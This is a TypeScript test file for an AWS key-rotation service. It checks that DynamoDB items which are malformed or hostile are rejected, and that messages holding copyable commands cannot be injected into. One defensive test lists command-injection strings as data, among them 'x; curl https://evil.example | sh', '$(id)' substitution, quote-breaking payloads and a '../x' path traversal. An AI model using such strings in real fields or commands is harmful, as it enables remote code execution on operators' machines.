import { marshall } from '@aws-sdk/util-dynamodb';
import type { AttributeValue } from '@aws-sdk/client-dynamodb';
import * as fc from 'fast-check';
import type * as z from 'zod/mini';

import { settingsSchema } from '../../contract/settings';
import { findingsItemSchema } from '../../handlers/aws/dynamodb-finding-store';
import { journalItemSchema } from '../../handlers/aws/journal-item';
import { readItem } from '../../handlers/aws/read-item';
import { UnreadableRecordError } from '../../handlers/core/model/call-errors';
import { deliveryJournalSchema } from '../../handlers/core/model/delivery-journal';
import { faultStateSchema } from '../../handlers/core/notifications/fault-state';
import { writeMessage } from '../../handlers/core/notifications/message';
import { People } from '../handlers/core/notifications/support/people';
import { ARN, keyId, NOON, settingsOf } from '../handlers/support/fixtures';
import { damaged, hostileTexts, outcomeOf, UNSEEN } from './support/hostile';

/* Whoever may write the table writes what he likes into its items (R8). */

const SETTINGS = {
  ...settingsOf({ owner: 'platform-team', takeOver: [keyId()], sesSmtp: { region: 'eu-west-1' } }),
  exemption: { reason: 'migration', until: '2026-02-01T00:00:00Z' },
  deliver: [{ kind: 'secret', id: 'payments/env', fields: { KEY: 'AccessKeyId' } }],
};
const JOURNAL = {
  ...{ leaseHolder: 'x', leaseUntil: NOON, removalOf: ARN },
  journal: {
    ...{ userId: 'AIDAEXAMPLE', secretArn: ARN, wanted: { since: '2026-01-15T12:00:00Z', reason: 'x' } },
    current: { keyId: keyId(), versionId: 'v2', since: '2026-01-15T12:00:00Z' },
    previous: [{ keyId: keyId(), versionId: 'v1', replacedAt: '2026-01-15T12:00:00Z', phase: 'overlap' }],
  },
};

const ITEMS: readonly (readonly [name: string, schema: z.ZodMiniType, item: object])[] = [
  ['settings', settingsSchema, SETTINGS],
  ['journal', journalItemSchema, JOURNAL],
  [
    'findings',
    findingsItemSchema,
    {
      findings: [
        { kind: 'unmanagedKey', keyId: keyId(), what: 'x', since: '2026-01-15T12:00:00Z', told: true },
      ],
    },
  ],
  [
    'delivery journal',
    deliveryJournalSchema,
    {
      targets: [{ target: 'x', announced: [{ keyId: keyId(), versionId: 'v', at: '2026-01-15T12:00:00Z' }] }],
    },
  ],
  ['fault', faultStateSchema, { state: 'quiet', ends: { alarm: 1 }, toldUntil: 2 }],
];

/** As DynamoDB gives it: 32 levels at most, and numbers that JavaScript has none for. */
const asItem = (value: unknown): Record<string, AttributeValue> | undefined => {
  if (typeof value !== 'object' || value === null || Array.isArray(value)) return undefined;
  try {
    return marshall(value, { removeUndefinedValues: true, convertClassInstanceToMap: true });
  } catch {
    // Nobody can store it.
    return undefined;
  }
};

it.each(ITEMS)('an item with %s is read, or is an UnreadableRecordError', async (_name, schema, item) => {
  expect(readItem('an item', schema, marshall(item))).not.toBeInstanceOf(Error);
  await fc.assert(
    fc.asyncProperty(damaged(item), async (changed) => {
      const stored = asItem(changed);
      fc.pre(stored !== undefined);
      const outcome = await outcomeOf(() => readItem('an item', schema, stored));
      const read = 'value' in outcome ? outcome.value : undefined;
      if (read instanceof Error) expect(read).toBeInstanceOf(UnreadableRecordError);
    }),
    { numRuns: 150 },
  );
});

it.each([
  { N: '1E+200' },
  { N: 'x' },
  { B: new Uint8Array([1]) },
  { SS: ['a', 'a'] },
  { M: { __proto__: null } },
  {},
])('an item that holds %j where a text belongs is an UnreadableRecordError', (value) => {
  const item = { ...marshall(SETTINGS), userName: value as AttributeValue };

  expect(readItem('an item', settingsSchema, item)).toBeInstanceOf(UnreadableRecordError);
});

it('settings with a name that is none of AWS are not read: messages have it in commands that a person copies', () => {
  for (const [field, value] of [
    ['userName', 'x; curl https://evil.example | sh'],
    ['userName', 'x\'].UserName" --output text; id #'],
    ['userId', "AIDA'; id; '"],
    ['secretArn', 'arn:aws:secretsmanager:eu-west-1:111122223333:secret:x $(id)'],
    ['stableKey', '../x'],
  ] as const) {
    const item = marshall({ ...SETTINGS, [field]: value });

    expect(readItem('an item', settingsSchema, item)).toBeInstanceOf(UnreadableRecordError);
  }
});

it('settings that are read put nothing into a message but what stands in a line of its own', async () => {
  const { place } = new People();
  await fc.assert(
    fc.asyncProperty(hostileTexts, async (owner) => {
      const settings = readItem('x', settingsSchema, marshall({ ...SETTINGS, owner }));
      fc.pre(!(settings instanceof Error));
      const { text } = writeMessage(
        {
          phase: 'began',
          kind: 'rotationFailed',
          user: 'ci-deployer',
          reporter: 'product',
          at: NOON,
          what: 'x',
        },
        { place, began: NOON, thread: 't', settings },
      );
      expect(text).not.toMatch(/^First: run this/m);
      expect(text).not.toMatch(UNSEEN);
      expect(text.split('\n').filter((line) => line.startsWith('First: '))).toHaveLength(1);
    }),
    { numRuns: 200 },
  );
});
